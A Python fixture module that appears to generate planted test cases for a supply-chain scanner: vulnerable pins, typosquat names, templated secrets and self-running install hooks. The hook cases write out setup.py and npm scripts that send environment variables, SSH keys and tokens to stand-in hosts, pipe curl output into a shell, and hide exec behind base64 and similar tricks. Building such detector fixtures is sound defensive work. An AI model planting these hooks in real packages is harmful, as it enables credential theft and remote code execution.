"""A hundred planted cases: vulnerable pins, look-alike names, code that runs by itself, secrets. Built when needed.

Each case is a small tree and the rules of which one must be found in it. Nothing here was ever issued or published:
secrets are drawn from templates, packages and advisories are invented, and no case is ever installed, imported or run.
"""

from __future__ import annotations

import base64
import codecs
import json
import zlib
from collections.abc import Mapping
from typing import NamedTuple

from casemate.patterns.samples import sample

VULNERABLE, MALICIOUS, LOOKALIKE = ("CM-SUP-400",), ("CM-SUP-401",), ("CM-SUP-408",)
RUNS = ("CM-SUP-420", "CM-SUP-421", "CM-SUP-422", "CM-SUP-423", "CM-SUP-424", "CM-SUP-425", "CM-SUP-426", "CM-SUP-427")
SECRET = ("CM-SUP-440", "CM-SUP-441", "CM-SUP-442", "CM-SUP-443", "CM-SUP-444")
HASH = "sha256:" + "0123456789abcdef" * 4


class Case(NamedTuple):
    """A tree (contents by name), and the rules of which one must be found."""

    kind: str
    name: str
    files: Mapping[str, str]
    rules: tuple[str, ...]


def _advisory(
    id_: str, package: str, events: list[dict[str, str]], ecosystem: str = "PyPI", **more: object
) -> dict[str, object]:
    kind = "SEMVER" if ecosystem == "npm" else "ECOSYSTEM"
    affected = {"package": {"ecosystem": ecosystem, "name": package}, "ranges": [{"type": kind, "events": events}]}
    summary = f"invented weakness of {package}"
    return {"id": id_, "modified": "2026-11-20T00:00:00Z", "summary": summary, "affected": [affected], **more}


def advisories() -> dict[str, str]:
    """An OSV database of invented advisories: names of files and their contents."""
    whole = {"introduced": "0"}
    listed = {"package": {"ecosystem": "PyPI", "name": "planted-listed"}, "versions": ["2.0", "2.0.1"]}
    found = [
        _advisory("PLANT-1", "planted-web", [whole, {"fixed": "2.3.1"}], aliases=["CVE-1999-0001"]),
        _advisory("PLANT-2", "planted_orm", [{"introduced": "1.4"}, {"last_affected": "1.4.9"}]),
        _advisory("PLANT-3", "planted-epoch", [whole, {"fixed": "1!0.2"}]),
        _advisory("PLANT-4", "planted-pre", [{"introduced": "3.0rc1"}, {"fixed": "3.0.post2"}]),
        _advisory("PLANT-5", "planted-two", [whole, {"fixed": "1.2"}, {"introduced": "2.0"}, {"fixed": "2.1"}]),
        {"id": "PLANT-6", "modified": "2026-11-21T00:00:00Z", "affected": [listed]},
        _advisory("PLANT-7", "planted-left", [whole, {"fixed": "1.10.0"}], "npm"),
        _advisory("PLANT-8", "@planted/scoped", [whole, {"fixed": "2.0.0-rc.2"}], "npm"),
        _advisory("MAL-1999-1", "planted-thief", [whole]),
        _advisory("MAL-1999-2", "planted-thief-js", [whole], "npm"),
        _advisory("PLANT-9", "planted-gone", [whole], withdrawn="2026-01-01T00:00:00Z"),
    ]
    return {f"{record['id']}.json": json.dumps(record) for record in found}


def _pins() -> list[Case]:
    def toml(name: str, version: str) -> str:
        return f'[[package]]\nname = "{name}"\nversion = "{version}"\n'

    lock2 = {
        "lockfileVersion": 3,
        "packages": {"": {"name": "x"}, "node_modules/a/node_modules/planted-left": {"version": "1.9.9"}},
    }
    lock1 = {
        "lockfileVersion": 1,
        "dependencies": {"a": {"version": "1.0.0", "dependencies": {"planted-left": {"version": "1.2.0"}}}},
    }
    scoped = {"lockfileVersion": 2, "packages": {"node_modules/@planted/scoped": {"version": "2.0.0-rc.1"}}}
    thief = {"lockfileVersion": 3, "packages": {"node_modules/fine": {"name": "planted-thief-js", "version": "0.0.1"}}}
    cases = {
        "requirements": {"requirements.txt": "planted-web==2.3.0\n"},
        "other spelling": {"requirements.txt": "Planted.Web[extra] == 2.3 ; python_version > '3'  # web\n"},
        "continued, hashed": {"requirements.txt": f"planted-web==2.2 \\\n    --hash={HASH}\n"},
        "included": {"requirements.txt": "-r deps/base.txt\n", "deps/base.txt": "planted_orm==1.4.9\n"},
        "constraint": {"requirements.txt": "planted-web\n-c pins.txt\n", "pins.txt": "planted-web==1\n"},
        "three equals": {"requirements/dev.txt": "planted-web===2.0\n"},
        "byte order mark": {"requirements-dev.txt": "\ufeffplanted-web==2.0\n"},
        "epoch": {"requirements.txt": "planted-epoch==5.0\n"},
        "pre-release": {"requirements.txt": "planted-pre==3.0\n"},
        "second range": {"requirements.txt": "planted-two==2.0.5\n"},
        "listed version": {"requirements.txt": "planted-listed==2.0.0\n"},
        "local version": {"requirements.txt": "planted-web==2.3.0+cpu\n"},
        "poetry.lock": {"poetry.lock": toml("planted-orm", "1.4.2")},
        "uv.lock": {"uv.lock": toml("planted-web", "2.3.0") + 'source = { registry = "https://index.test/simple" }\n'},
        "pdm.lock": {"pdm.lock": toml("planted-pre", "3.0.post1")},
        "pylock.toml": {"pylock.toml": '[[packages]]\nname = "planted-two"\nversion = "1.1"\n'},
        "named pylock": {"pylock.dev.toml": '[[packages]]\nname = "planted-two"\nversion = "1.1.9"\n'},
        "Pipfile.lock": {
            "Pipfile.lock": json.dumps({"default": {"planted-web": {"version": "==2.3.0", "hashes": [HASH]}}})
        },
        "conda's pip": {
            "environment.yml": "name: x\ndependencies:\n  - python=3.11\n  - pip:\n    - planted-web==2.0\n"
        },
        "pyproject pin": {"pyproject.toml": '[project]\nname = "x"\ndependencies = ["planted-orm==1.4.0"]\n'},
        "installed": {
            "planted_web-2.1.dist-info/METADATA": "Metadata-Version: 2.1\nName: planted_web\nVersion: 2.1\n\n",
            "planted_web-2.1.dist-info/RECORD": "",
        },
        "npm nested": {"package-lock.json": json.dumps(lock2)},
        "npm version 1": {"package-lock.json": json.dumps(lock1)},
        "npm scope, rc": {"package-lock.json": json.dumps(scoped)},
    }
    found = [Case("vulnerable pin", name, files, VULNERABLE) for name, files in cases.items()]
    found.append(Case("vulnerable pin", "malicious", {"requirements.txt": "planted-thief==0.1\n"}, MALICIOUS))
    found.append(Case("vulnerable pin", "malicious alias", {"package-lock.json": json.dumps(thief)}, MALICIOUS))
    return found


def _names() -> list[Case]:
    pypi = """reqeusts requestss reqests request-s urlib3 urllib-3 numpyy nunpy pandsa python-pandas pandas-py scikitlearn
    learn-scikit tensorfow tensor-flow beautifulsoup4-lib djanga python3-flask torch-sdk matplotlip colourama crypt0graphy
    tenserflow"""  # noqa: E501
    cases = [Case("look-alike", name, {"requirements.txt": f"{name}==1.0\n"}, LOOKALIKE) for name in pypi.split()]
    npm = ("lodahs", "expresss", "reactjs-dom", "crossenv", "node-axios")
    declared = {name: {"package.json": json.dumps({"dependencies": {name: "1.0.0"}})} for name in npm}
    return [*cases, *(Case("look-alike", name, files, LOOKALIKE) for name, files in declared.items())]


def _encoded(code: str) -> str:
    return base64.b64encode(code.encode()).decode()


def _hooks() -> list[Case]:
    harmless = "print('planted')"
    packed = base64.b64encode(zlib.compress(harmless.encode())).decode()
    setup = "from setuptools import setup\nsetup(name='x')\n"
    files = {
        "exec of base64": {"setup.py": f"import base64\nexec(base64.b64decode('{_encoded(harmless)}'))\n{setup}"},
        "aliases": {
            "setup.py": f"from base64 import b64decode as d\ne = exec\nblob = '{_encoded(harmless)}'\ne(d(blob))\n{setup}"  # noqa: E501
        },
        "zlib inside": {
            "setup.py": f"exec(__import__('zlib').decompress(__import__('base64').b64decode('{packed}')))\n"
        },
        "getattr": {
            "setup.py": f"import builtins, base64\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode('{_encoded(harmless)}'))\n"  # noqa: E501
        },
        "reversed name": {
            "setup.py": f"import builtins, base64\ngetattr(builtins, 'cexe'[::-1])(base64.b64decode('{_encoded(harmless)}'))\n"  # noqa: E501
        },
        "globals": {
            "setup.py": f"import codecs\nglobals()['__builtins__'].__dict__['exec'](codecs.decode({codecs.encode(harmless, 'rot13')!r}, 'rot13'))\n"  # noqa: E501
        },
        "chr list": {"setup.py": f"exec(''.join(chr(c) for c in {[*map(ord, harmless)]}))\n"},
        "bytes of numbers": {"setup.py": f"exec(bytes({[*harmless.encode()]}).decode())\n"},
        "hex": {"x/__init__.py": f"exec(bytes.fromhex('{harmless.encode().hex()}'))\n"},
        "marshal": {
            "x/__init__.py": "import marshal, types\ntypes.FunctionType(marshal.loads(b'planted'), globals())()\n"
        },
        "command class": {
            "setup.py": "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        import urllib.request as u\n        u.urlopen('https://collect.test', data=str(dict(os.environ)).encode())\nsetup(name='x', cmdclass={'install': I})\n"  # noqa: E501
        },
        "fetched": {"setup.py": "from urllib.request import urlopen\nexec(urlopen('https://stage.test/p').read())\n"},
        "fetched, requests": {
            "x/__init__.py": "import requests\ncode = requests.get('https://stage.test/p').text\neval(compile(code, 'x', 'exec'))\n"  # noqa: E501
        },
        "curl to a shell": {"setup.py": "import os\nos.system('curl -s https://stage.test/x | sh')\n" + setup},
        "token of the hub": {
            "x/__init__.py": "import pathlib, http.client\ntoken = pathlib.Path('~/.cache/.huggingface/token').expanduser().read_text()\nhttp.client.HTTPSConnection('collect.test').request('POST', '/', token)\n"  # noqa: E501
        },
        "ssh keys": {
            "setup.py": "import socket\ns = socket.socket()\ns.connect(('collect.test', 443))\ns.send(open('/root/.ssh/id_rsa').read().encode())\n"  # noqa: E501
        },
        "pth": {"x.pth": "import os; os.system('id')\n"},
        "pth, long": {"x.pth": "x\nimport base64; exec(base64.b64decode('cGFzcw=='))\n"},
        "pth like a known one": {
            "y.pth": "import __editable___x_finder; __editable___x_finder.install(); import os; os.system('id')\n"
        },
        "sitecustomize": {"sitecustomize.py": "import subprocess\nsubprocess.Popen(['id'])\n"},
        "cron": {"setup.py": "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('planted')\n" + setup},
        "writes a pth": {
            "setup.py": "import site\nfrom pathlib import Path\nPath(site.getsitepackages()[0] + '/zz.pth').write_text('import planted')\n"  # noqa: E501
        },
        "postinstall": {
            "package.json": json.dumps(
                {"scripts": {"postinstall": "node -e \"require('https').get('https://stage.test')\""}}
            )
        },
        "preinstall": {"package.json": json.dumps({"scripts": {"preinstall": "curl -s https://stage.test/x | bash"}})},
        "socket at import": {
            "x/__init__.py": "def _go():\n    import socket\n    socket.create_connection(('collect.test', 80))\n_go()\n"  # noqa: E501
        },
        "computed name": {"setup.py": "import os, sys\ngetattr(os, sys.argv[-1] or 'sys' 'tem')('id')\n" + setup},
    }
    return [Case("runs by itself", name, each, RUNS) for name, each in files.items()]


def _cell(source: str, output: str = "") -> str:
    outputs = [{"output_type": "stream", "name": "stdout", "text": [output]}] if output else []
    return json.dumps(
        {
            "cells": [{"cell_type": "code", "source": source.splitlines(keepends=True), "outputs": outputs}],
            "nbformat": 4,
        }
    )


def _secrets() -> list[Case]:
    key = "-----BEGIN <k> PRIVATE KEY-----<nl><b64:64><nl><b64:64><nl><b64:40><nl>-----END <k> PRIVATE KEY-----"
    templates = {
        "aws in .env": (".env", "AWS_ACCESS_KEY_ID=AKIA<b32:16><nl>AWS_SECRET_ACCESS_KEY=<b64:40><nl>"),
        "github in a workflow": (".github/workflows/ci.yml", "env:<nl>  GH: ghp_<alnum:36><nl>"),
        "hugging face in code": ("train.py", 'login(token="hf_<alpha:34>")<nl>'),
        "openai in a shell": ("run.sh", "export OPENAI_API_KEY=sk-proj-<url:74>T3BlbkFJ<url:74><nl>"),
        "anthropic in JSON": ("config.json", '{"anthropic": {"key": "sk-ant-api03-<url:93>AA"}}'),
        "wandb": ("settings.py", 'os.environ["WANDB_API_KEY"] = "<hex:40>"<nl>'),
        "slack webhook": ("notify.js", 'post("https://hooks.slack.com/services/T<upnum:8>/B<upnum:8>/<alnum:24>")<nl>'),
        "stripe after an escape": ("log.json", '{"line": "key\\nsk_live_<alnum:24>"}'),
        "database URL": ("alembic.ini", "sqlalchemy.url = postgresql+psycopg2://app:<alnum:14>@db.internal/main<nl>"),
        "mongo": ("docker-compose.yml", "  MONGO_URL: mongodb+srv://root:<alnum:12>%40<alnum:4>@cluster.internal/<nl>"),
        "PEM": ("deploy/id_rsa", key.replace("<k>", "RSA")),
        "PEM in JSON": ("sa.json", '{"private_key": "' + key.replace("<k>", "EC").replace("<nl>", "\\n") + '"}'),
        "OpenSSH": ("key", key.replace("<k>", "OPENSSH")),
        "JWT": ("client.py", 'SESSION = "<jwt>"<nl>'),
        "generic": ("app/config.py", 'SECRET_KEY = "<url:50>"<nl>'),
        "generic in YAML": ("values.yaml", "app:<nl>  apiToken: <alnum:40><nl>"),
        "password": ("app/db.py", 'connect(host="db", password="<alnum:6>!<alnum:6>")<nl>'),
        "URL-encoded": ("hook.txt", "https://x.test/?token%3Dglpat-<alnum:20>&y=1<nl>"),
        "npmrc": (".npmrc", "//registry.internal/:_authToken=<alnum:36><nl>"),
        "azure storage": ("conn.txt", "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=<b64:86>==;<nl>"),
    }
    found = [Case("secret", name, {file: sample(text, name)}, SECRET) for name, (file, text) in templates.items()]
    printed = sample("HF_TOKEN=hf_<alpha:34>\n", "printed")
    typed = sample('%env OPENROUTER=sk-or-v1-<hex:64>\napi_key = "<alnum:32>"\n', "typed")
    return [
        *found,
        Case("secret", "typed in a notebook", {"a.ipynb": _cell(typed)}, SECRET),
        Case("secret", "printed by a notebook", {"b.ipynb": _cell("%env", printed)}, SECRET),
    ]


def cases() -> list[Case]:
    """All of them."""
    return [*_pins(), *_names(), *_hooks(), *_secrets()]
